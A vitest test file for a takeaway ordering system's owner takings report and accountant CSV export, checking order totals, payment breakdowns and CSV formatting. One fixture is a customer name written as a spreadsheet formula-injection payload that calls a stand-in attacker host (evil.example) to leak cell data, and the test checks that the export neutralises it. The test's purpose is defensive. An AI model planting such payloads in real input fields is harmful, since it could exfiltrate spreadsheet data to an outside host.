import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { paidOrder, type Approval } from './payPalSupport';
import { leedsAddress, startOrderingServer, type OrderingServer, type PlacedOrder } from './orderingServer';

// The owner's takings and the accountant's CSV (docs/back-office.md, "Takings"), from known orders placed through the
// real calls: cash, PayPal and card (the loopback PayPal fake), collection and delivery, one refused, one cancelled.

let ordering: OrderingServer;
let ownerToken: string;
const placed: Record<string, string> = {};
const numbers: Record<string, number> = {};
/** A customer's name is what they typed: one written as a spreadsheet formula, with a comma and a quote. */
const formulaName = '=HYPERLINK("http://evil.example/?"&A1, "Ada")';

const card: Approval = { paymentSource: 'card', card: { number: '4111111111111111', expiry: '12/30', securityCode: '123' } };
const twoStarters = { orderItems: [{ categoryId: 1, itemId: 109, quantity: 2, title: 'Mixed Starter for Two', itemCost: 0, lineCost: 0 }] };

/** Tuesday 24 November 2026 at `time` in London (GMT). */
const tuesdayAt = (time: string) => new Date(`2026-11-24T${time}:00Z`);

async function accept(orderRef: string) {
  expect((await ordering.post(`/kitchen/orders/${orderRef}/accept`, {}, await ordering.staffToken())).status).toBe(200);
}

beforeAll(async () => {
  ordering = await startOrderingServer();
  ownerToken = await ordering.ownerToken();

  const remember = (key: string, order: PlacedOrder) => {
    placed[key] = order.orderRef;
    numbers[key] = order.orderNumber;
  };
  ordering.now = tuesdayAt('18:00');
  remember('cash', await ordering.requestedOrder());
  await accept(placed.cash);
  ordering.now = tuesdayAt('18:05');
  remember('payPal', await paidOrder(ordering));
  await accept(placed.payPal);
  ordering.now = tuesdayAt('18:10');
  remember('card', await paidOrder(ordering, card));
  await accept(placed.card);
  ordering.now = tuesdayAt('18:15');
  remember('delivery', await ordering.requestedOrder({ orderType: 2, deliveryAddress: leedsAddress, name: formulaName }));
  await accept(placed.delivery);
  ordering.now = tuesdayAt('18:20');
  remember('refused', await ordering.requestedOrder(twoStarters));
  const refusal = await ordering.post(`/kitchen/orders/${placed.refused}/refuse`, { reason: 'Out of prawns, sorry' }, await ordering.staffToken());
  expect(refusal.status).toBe(200);
  ordering.now = tuesdayAt('18:25');
  const cancelled = await ordering.requestedOrder();
  remember('cancelled', cancelled);
  expect((await ordering.post(`/orderbuilder/cancel/${cancelled.basketId}`)).status).toBe(200);
  // The next evening's: outside Tuesday's takings.
  ordering.now = new Date('2026-11-25T18:00:00Z');
  remember('wednesday', await ordering.requestedOrder());
});
afterAll(() => ordering?.close());

describe('GET /manage/takings', () => {
  it("lists the day's orders, counts those not refused or cancelled, and totals them by payment and by type", async () => {
    const answer = await ordering.call('/manage/takings?from=2026-11-24&to=2026-11-24', { token: ownerToken });
    expect(answer.status).toBe(200);
    const takings = answer.body.data;
    expect(takings.orders.map((order: { orderRef: string }) => order.orderRef)).toEqual([
      placed.cash,
      placed.payPal,
      placed.card,
      placed.delivery,
      placed.refused,
      placed.cancelled,
    ]);
    expect(takings.orders[0]).toEqual({
      orderRef: placed.cash,
      orderNumber: 1,
      name: 'Ada Lovelace',
      placedAt: '2026-11-24T18:00:00.000Z',
      channel: 'online',
      orderType: 'collection',
      payment: 'cash',
      itemTotal: 13.9,
      discount: 0,
      delivery: 0,
      bag: 0.1,
      total: 14,
      status: 'accepted',
      counted: true,
      reason: null,
    });
    // The day's numbers, in the order the orders were placed.
    expect(takings.orders.map((order: { orderNumber: number }) => order.orderNumber)).toEqual([1, 2, 3, 4, 5, 6]);
    expect(takings.orders.map((order: { payment: string; orderType: string; status: string; counted: boolean; reason: string | null }) => [
      order.payment,
      order.orderType,
      order.status,
      order.counted,
      order.reason,
    ])).toEqual([
      ['cash', 'collection', 'accepted', true, null],
      ['paypal', 'collection', 'accepted', true, null],
      ['card', 'collection', 'accepted', true, null],
      ['cash', 'delivery', 'accepted', true, null],
      ['cash', 'collection', 'refused', false, 'Out of prawns, sorry'],
      ['cash', 'collection', 'cancelled', false, 'The customer cancelled'],
    ]);
    expect(takings.totals).toEqual({ orders: 4, itemTotal: 55.6, discount: 0, delivery: 1.5, bag: 0.4, total: 57.5 });
    expect(takings.byPayment).toEqual([
      { payment: 'cash', orders: 2, total: 29.5 },
      { payment: 'paypal', orders: 1, total: 14 },
      { payment: 'card', orders: 1, total: 14 },
      { payment: 'cardOnCollection', orders: 0, total: 0 },
    ]);
    expect(takings.byChannel).toEqual([
      { channel: 'online', orders: 4, total: 57.5 },
      { channel: 'phone', orders: 0, total: 0 },
    ]);
    expect(takings.byOrderType).toEqual([
      { orderType: 'collection', orders: 3, total: 42 },
      { orderType: 'delivery', orders: 1, total: 15.5 },
    ]);
    // Due ASAP: collection 20 minutes after placing, delivery 45, in London's quarter-hours.
    expect(takings.busiestSlots).toEqual([
      { time: '18:15', orders: 2 },
      { time: '18:30', orders: 1 },
      { time: '19:00', orders: 1 },
    ]);
  });

  it('reads a range of London days, and refuses a range that ends before it starts', async () => {
    const twoDays = await ordering.call('/manage/takings?from=2026-11-24&to=2026-11-25', { token: ownerToken });
    expect(twoDays.body.data.orders.at(-1).orderRef).toBe(placed.wednesday);
    expect(twoDays.body.data.totals.orders).toBe(5);
    const backwards = await ordering.call('/manage/takings?from=2026-11-25&to=2026-11-24', { token: ownerToken });
    expect(backwards.status).toBe(400);
    expect(backwards.body.validationErrors).toEqual([{ field: 'to', message: 'must not be before from' }]);
    expect((await ordering.call('/manage/takings?from=2026-02-30&to=2026-03-01', { token: ownerToken })).body.validationErrors).toEqual([
      { field: 'from', message: 'must be a date, for example 2026-12-24' },
    ]);
  });

  it('is for the owner only', async () => {
    expect((await ordering.call('/manage/takings?from=2026-11-24&to=2026-11-24', { token: await ordering.staffToken() })).status).toBe(403);
    expect((await ordering.call('/manage/takings/csv?from=2026-11-24&to=2026-11-24')).status).toBe(401);
  });
});

/** An order reference as a spreadsheet must read it: one that starts like a formula ("-2zz…", 1 in 64) is kept as text by a leading apostrophe. */
const asText = (reference: string) => (/^[=+\-@]/.test(reference) ? `'${reference}` : reference);

/** The CSV as the accountant's spreadsheet reads it: fields (RFC 4180 quoting undone) of each line after the header. */
function csvRows(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const character = text[index];
    if (quoted) {
      if (character === '"' && text[index + 1] === '"') {
        field += '"';
        index += 1;
      } else if (character === '"') quoted = false;
      else field += character;
    } else if (character === '"') quoted = true;
    else if (character === ',') {
      row.push(field);
      field = '';
    } else if (character === '\r' && text[index + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      index += 1;
    } else field += character;
  }
  return rows;
}

async function takingsCsv(from: string, to: string): Promise<{ response: Response; text: string }> {
  const response = await fetch(`${ordering.server.url}/api/manage/takings/csv?from=${from}&to=${to}`, {
    headers: { 'x-application-key': 'takeaway-web', 'x-site-key': 'demo-site', authorization: `Bearer ${ownerToken}` },
  });
  return { response, text: new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer()) };
}

const pence = (pounds: string) => Math.round(Number(pounds) * 100);

describe('GET /manage/takings/csv', () => {
  it('answers the accountant one line per order after a header: its number, the customer, what was taken and what was not', async () => {
    const { response, text } = await takingsCsv('2026-11-24', '2026-11-25');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="takings-2026-11-24-to-2026-11-25.csv"');
    expect(text.startsWith('\uFEFF')).toBe(true);
    // The formula a customer typed as their name is kept as text (a leading apostrophe), its quotes and comma quoted.
    const formulaNameField = `"'${formulaName.replace(/"/g, '""')}"`;
    expect(text.slice(1).split('\r\n')).toEqual([
      'Date,Time,Order,Name,Channel,Type,Payment,Item total,Discount,Delivery,Bag,Total,Not taken,Status,Reference',
      `24/11/2026,18:00,1,Ada Lovelace,Online,Collection,Cash,13.90,0.00,0.00,0.10,14.00,0.00,Accepted,${asText(placed.cash)}`,
      `24/11/2026,18:05,2,Ada Lovelace,Online,Collection,PayPal,13.90,0.00,0.00,0.10,14.00,0.00,Accepted,${asText(placed.payPal)}`,
      `24/11/2026,18:10,3,Ada Lovelace,Online,Collection,Card,13.90,0.00,0.00,0.10,14.00,0.00,Accepted,${asText(placed.card)}`,
      `24/11/2026,18:15,4,${formulaNameField},Online,Delivery,Cash,13.90,0.00,1.50,0.10,15.50,0.00,Accepted,${asText(placed.delivery)}`,
      `24/11/2026,18:20,5,Ada Lovelace,Online,Collection,Cash,0.00,0.00,0.00,0.00,0.00,27.90,"Refused: Out of prawns, sorry",${asText(placed.refused)}`,
      `24/11/2026,18:25,6,Ada Lovelace,Online,Collection,Cash,0.00,0.00,0.00,0.00,0.00,14.00,Cancelled: The customer cancelled,${asText(placed.cancelled)}`,
      // Wednesday's first order is its day's number 1 again.
      `25/11/2026,18:00,1,Ada Lovelace,Online,Collection,Cash,13.90,0.00,0.00,0.10,14.00,0.00,Waiting,${asText(placed.wednesday)}`,
      '',
    ]);
    expect(numbers).toMatchObject({ cash: 1, refused: 5, cancelled: 6, wednesday: 1 });
  });

  it("sums, column by column, to the takings page's totals for the same range, with the refused and cancelled orders listed", async () => {
    for (const [from, to] of [
      ['2026-11-24', '2026-11-24'],
      ['2026-11-24', '2026-11-25'],
    ]) {
      const { text } = await takingsCsv(from, to);
      const [header, ...rows] = csvRows(text.slice(1));
      const column = (name: string) => rows.map((row) => pence(row[header.indexOf(name)]));
      const sum = (name: string) => column(name).reduce((total, amount) => total + amount, 0);
      const page = (await ordering.call(`/manage/takings?from=${from}&to=${to}`, { token: ownerToken })).body.data;

      expect(rows).toHaveLength(page.orders.length);
      expect(rows.map((row) => row[header.indexOf('Status')]).filter((status) => /^(Refused|Cancelled)/.test(status))).toHaveLength(2);
      expect(sum('Total')).toBe(pence(String(page.totals.total)));
      expect(sum('Item total')).toBe(pence(String(page.totals.itemTotal)));
      expect(sum('Delivery')).toBe(pence(String(page.totals.delivery)));
      expect(sum('Bag')).toBe(pence(String(page.totals.bag)));
      expect(sum('Discount')).toBe(pence(String(page.totals.discount)));
      // What fell through is not lost: its value is under "Not taken".
      const notCounted = page.orders.filter((order: { counted: boolean }) => !order.counted);
      expect(sum('Not taken')).toBe(notCounted.reduce((total: number, order: { total: number }) => total + pence(String(order.total)), 0));
    }
  });
});
